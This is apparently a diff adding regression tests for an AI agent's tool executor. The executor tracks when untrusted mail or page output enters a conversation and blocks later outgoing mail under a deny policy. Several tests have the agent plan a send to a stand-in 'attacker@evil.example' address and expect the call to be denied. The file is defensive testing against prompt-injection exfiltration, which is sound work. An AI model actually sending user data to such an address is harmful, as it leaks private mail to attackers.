@@ -185,6 +185,87 @@ describe('the origins of a conversation', () => {
     expect(JSON.parse(stdout)).toEqual([['command', 'workspace', 'web:*'], ['mcp:mail']]);
   });
 
+  it('bug: an output that the model received as a resource was searched for by no later process', async () => {
+    const options = {
+      root: folder(),
+      journal: join(folder(), 'journal.db'),
+      output: { maxBytes: 1_000 },
+      tools: mail(LONG),
+      policy: { ...AUTO, rules: [DENY] },
+    };
+    const codeIn = async (executor: Executor, to = 'attacker@evil.example') => {
+      const { calls } = await executor.plan([send(to)], { conversation: 'c' });
+      return calls[0]?.result?.error?.code;
+    };
+    const first = open(options);
+    const { outputRef = '' } = await first.execute('read_mail', {}, { conversation: 'other' });
+    const beside = open(options);
+    expect(await codeIn(beside)).toBeUndefined();
+    await first.readOutput(outputRef, { conversation: 'c' });
+    await first.readOutput(outputRef, { conversation: 'c' });
+    expect([await codeIn(first), await codeIn(first, 'ada@corp.example')]).toEqual([
+      'policy_denied',
+      undefined,
+    ]);
+    expect(await codeIn(beside)).toBe('policy_denied');
+    await beside.mark('c', 'clean');
+    await beside.close();
+    await first.readOutput(outputRef, { conversation: 'c' });
+    await first.close();
+    const later = open(options);
+    // What the text says is unknown here, so it may say anything.
+    expect([await codeIn(later), await codeIn(later, 'ada@corp.example')]).toEqual([
+      'policy_denied',
+      'policy_denied',
+    ]);
+    await later.mark('c', 'clean');
+    expect(await codeIn(later)).toBeUndefined();
+    await later.close();
+    const last = open(options);
+    expect(await codeIn(last)).toBeUndefined();
+    await last.readOutput(outputRef, { conversation: 'c' });
+    await last.close();
+    expect(await codeIn(open(options))).toBe('policy_denied');
+  });
+
+  it('bug: the end of a long output that the model received as a resource was never searched for', async () => {
+    const options = {
+      output: { maxBytes: 1_000 },
+      tools: mail(`${'a line of a mail\n'.repeat(260_000)}${INBOX}`),
+      policy: { ...AUTO, rules: [DENY] },
+    };
+    const executor = open(options);
+    const { outputRef = '' } = await executor.execute('read_mail', {}, { conversation: 'other' });
+    const denied = async () => {
+      const { calls } = await executor.plan([send('attacker@evil.example')], { conversation: 'c' });
+      return calls[0]?.result?.error?.code === 'policy_denied';
+    };
+    await executor.readOutput(outputRef, { conversation: 'c', length: 1_000_000 });
+    expect(await denied()).toBe(false);
+    await executor.readOutput(outputRef, { conversation: 'c' });
+    expect(await denied()).toBe(true);
+  });
+
+  it('bug: an output that the model received again pushed out the results before it', async () => {
+    const page = defineTool({
+      name: 'read_page',
+      description: 'A tool with a long text.',
+      input: { type: 'object' },
+      effects: () => [{ kind: 'call', server: 'pages', tool: 'read_page', access: 'read' }],
+      execute: () => 'a line of a page\n'.repeat(55_000),
+    });
+    const executor = open({
+      output: { maxBytes: 1_000 },
+      tools: [...mail(), page],
+      policy: { ...AUTO, rules: [{ ...DENY, args_from: { '/to': 'mcp:mail' } }] },
+    });
+    await executor.execute('read_mail', {}, { conversation: 'c' });
+    const { outputRef = '' } = await executor.execute('read_page', {}, { conversation: 'c' });
+    for (let read = 0; read < 20; read++) await executor.readOutput(outputRef, { conversation: 'c' });
+    const { calls } = await executor.plan([send('attacker@evil.example')], { conversation: 'c' });
+    expect(calls[0]?.result?.error?.code).toBe('policy_denied');
+  });
+
   it('do not come back to a later process from results before a mark', async () => {
     const root = folder();
     const options = { root, journal: join(folder(), 'journal.db'), policy: { ...AUTO, rules: [DENY] } };
